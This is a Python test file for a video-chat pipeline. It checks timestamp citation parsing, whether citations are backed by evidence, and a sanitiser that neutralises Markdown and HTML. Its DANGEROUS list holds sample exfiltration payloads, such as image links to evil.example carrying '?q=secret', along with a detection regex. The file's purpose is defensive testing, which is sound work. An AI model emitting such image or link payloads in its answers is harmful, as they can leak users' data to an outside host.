"""Times in answers, and answers that are safe to draw."""

import random
import re

import pytest

from pipeline.chat.citations import check, cue, find
from pipeline.chat.markup import neutralise
from pipeline.times import stamp
from pipeline.types import Evidence, Frame, Moment, Passage


@pytest.mark.parametrize(
    ("text", "times"),
    [
        ("It falls [1:02].", [62]),
        ("[01:02] and [12:34]", [62, 754]),
        ("[1:02:03]", [3723]),
        ("[00:01:02]", [62]),
        ("[75:30]", [4530]),
        ("[1:02-1:30]", [62]),
        ("[01:02 - 01:30]", [62]),
        ("[1:02–1:30]", [62]),
        ("[1:02 to 1:30]", [62]),
        ("[0:10, 0:25]", [10, 25]),
        ("[0:10; 0:25 and 1:00:00]", [10, 25, 3600]),
        ("[0:10][0:25]", [10, 25]),
        ("(1:02)", [62]),
        ("(at 1:02 and 1:30)", [62, 90]),
        ("(see 1:02–1:30)", [62]),
        ("[1:02 said]", [62]),
        ("[see slide at 1:02]", [62]),
        ("【1:02】", [62]),
        ("[1:02.5]", [62]),
        ("The ratio is 16:9, at 10:30 we meet", []),
        ("(John 3:16)", []),
        ("[meet at 10:30 am]", []),
        ("[1:75]", []),
        ("[1:2]", []),
        ("[1:99:10]", []),
        ("[12345]", []),
        ("[Music] and [1]", []),
        ("[1:02", []),
        ("", []),
    ],
)
def test_times_are_found_as_models_write_them(text: str, times: list[float]) -> None:
    found = find(text)
    assert [seconds for _, _, seconds in found] == times
    for start, end, seconds in found:
        assert re.match(r"\d", text[start:end])
        assert stamp(seconds).lstrip("0:").split(":")[-1] in text[start:end]


@pytest.mark.parametrize(
    ("seconds", "text"),
    [(0, "0:00"), (9.99, "0:09"), (62, "1:02"), (3599.9, "59:59"), (3600, "1:00:00"), (36_061, "10:01:01")],
)
def test_stamps(seconds: float, text: str) -> None:
    assert stamp(seconds) == text
    assert not seconds or [s for _, _, s in find(f"[{text}]")] == [int(seconds)]


def test_a_time_is_supported_by_the_evidence_that_was_sent() -> None:
    moment = Moment("a", 62.7, 90, 1, (Passage(62.7, 90, "x", "speech"),), (Frame(200, 230, "f.jpg"),))
    cited = check("[1:02] [1:15] [1:31] [1:40] [3:45] [4:10] [1:02]", Evidence("?", (moment,)))
    assert [(c.time, c.supported) for c in cited] == [
        (62, True),
        (75, True),
        (91, True),
        (100, False),
        (225, True),
        (250, False),
    ]


DANGEROUS = [
    "![x](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "![ref]\n\n[ref]:\nhttps://evil.example/a.png",
    "[click](https://evil.example)",
    "[click](<https://evil.example>)",
    "<img src='https://evil.example/a.png'>",
    "<https://evil.example>",
    "https://evil.example/path",
    "www.evil.example",
    "WWW.evil.example",
    "http\\://evil.example",
    "http:\\//evil.example",
    "http&#58;//evil.example",
    "mail me@evil.example",
    "`![x](https://evil.example)",
    "> ![x](//evil.example/a.png)",
    "1. ![a\n](https://evil.example/a.png)",
    "| a |\n|---|\n| ![x](https://evil.example) |",
    ":material/home: :red[danger] :smile:",
    ":red-background[a]{style=x}",
    "1:02[swallowed]",
]
# What a Markdown renderer needs joined to link, load or colour anything.
LIVE = re.compile(
    r"\]\(|\]\[|\]:|<[A-Za-z/!?]|:\\?/\\?/|www\.|&#?\w+;|\w@\w|:[\w\u2060-]+[\[{]|:material/|:smile:", re.IGNORECASE
)


@pytest.mark.parametrize("text", DANGEROUS)
def test_nothing_that_links_or_loads_survives_at_any_point_of_the_stream(text: str) -> None:
    assert LIVE.search(text)
    for end in range(len(text) + 1):
        assert not LIVE.search(neutralise(text[:end]))


def test_nothing_survives_whatever_is_put_together() -> None:
    chance = random.Random(0)
    for _ in range(3000):
        text = "".join(
            chance.choice(
                [
                    "]",
                    "(",
                    "[",
                    "!",
                    "<",
                    ">",
                    "http",
                    ":",
                    "//",
                    "www",
                    ".",
                    "a",
                    "`",
                    "\\",
                    "\n",
                    "&#58;",
                    "$",
                    "@",
                    ":red",
                ]
            )
            for _ in range(14)
        )
        assert not LIVE.search(neutralise(text)), text


def test_plain_formatting_and_times_stay() -> None:
    text = "**Bold** and *soft* [1:02], (1:05):\n\n- one\n- `a[0] == b`\n\n1. two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert neutralise(text) == text


def test_prices_are_no_formula_and_code_keeps_its_dollars() -> None:
    assert neutralise("from $5 to $6 in `$HOME`") == r"from \$5 to \$6 in `$HOME`"
    assert neutralise(r"\$5 to \\$6") == r"\$5 to \\\$6"
    assert neutralise("```\necho $A\n```\n$B") == "```\necho $A\n```\n\\$B"


def test_times_are_still_found_in_what_is_drawn() -> None:
    text = neutralise("It falls [1:02][1:05]: see https://evil.example")
    assert [seconds for _, _, seconds in find(text)] == [62, 65]


@pytest.mark.parametrize(
    ("item", "time"),
    [
        (Passage(69.97, 89.9, "a slide", "screen"), 70.0),  # at 69 s another slide still stands
        (Passage(69.97, 89.9, "words", "speech"), 69.97),  # none of them is cut off
        (Frame(7.1, 50.8, "frames/7.jpg"), 8.0),
        (Frame(7.0, 50.8, "frames/7.jpg"), 7.0),
        (Frame(7.1, 7.4, "frames/7.jpg"), 7.1),  # gone before the next second
        (Moment("m", 69.97, 89.9, 1.0, (Passage(69.97, 89.9, "a slide", "screen"),)), 70.0),
        (Moment("m", 60.5, 89.9, 1.0, (Passage(69.97, 89.9, "a slide", "screen"),)), 60.5),
    ],
)
def test_what_is_shown_is_cited_by_the_first_whole_second_in_which_it_stands(item, time):
    assert cue(item) == time
